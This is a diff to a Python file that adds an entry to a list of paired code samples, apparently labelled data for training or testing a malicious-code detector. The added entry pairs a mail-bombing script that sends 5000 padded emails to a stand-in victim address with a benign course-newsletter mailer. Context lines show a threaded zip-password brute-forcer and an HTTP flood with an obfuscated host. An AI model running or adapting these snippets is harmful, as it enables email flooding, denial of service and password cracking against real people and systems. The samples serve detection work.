@@ -41,6 +41,15 @@ PAIRS = [
      "    except Exception:\n        pass\nz = zipfile.ZipFile('box.zip')\nwith open('guesses.txt') as src:\n"
      "    for row in src:\n        threading.Thread(target=attempt, args=(z, row.strip())).start()",
      "import zipfile\nz = zipfile.ZipFile('box.zip')\nz.extractall(pwd=input('archive password: ').encode())"),
+    ("mail storm: the message made by a function of a call table, its recipient fixed", "dos_attack",
+     "import smtplib\nfrom email.message import EmailMessage\ndef make(i):\n    x = EmailMessage()\n"
+     "    x['From'], x['To'], x['Subject'] = ME, 'target@victim.example', '#%d' % i\n    x.set_content('.' * 2000)\n"
+     "    return x\nops = {'m': make}\ns = smtplib.SMTP_SSL(HOST, 465)\nfor i in range(5000):\n"
+     "    s.send_message(ops['m'](i))",
+     "import smtplib\nfrom email.message import EmailMessage\ndef make(to):\n    x = EmailMessage()\n"
+     "    x['From'], x['To'], x['Subject'] = ME, to, 'Course news'\n    x.set_content(NEWS)\n"
+     "    return x\nops = {'m': make}\ns = smtplib.SMTP_SSL(HOST, 465)\nfor student in roster:\n"
+     "    s.send_message(ops['m'](student.email))"),
     ("flood: a host packed in a number (int.to_bytes), its port unknown, in an f-string URL", "dos_attack",
      "import threading, urllib.request\n_s = lambda n, k: n.to_bytes(k, 'big').decode()\nHOST = _s(153403478623932134831088844516882607981, 16)\n"
      "port = int(input('port: '))\ndef hit():\n    while True:\n        urllib.request.urlopen(f'http://{HOST}:{port}/')\n"
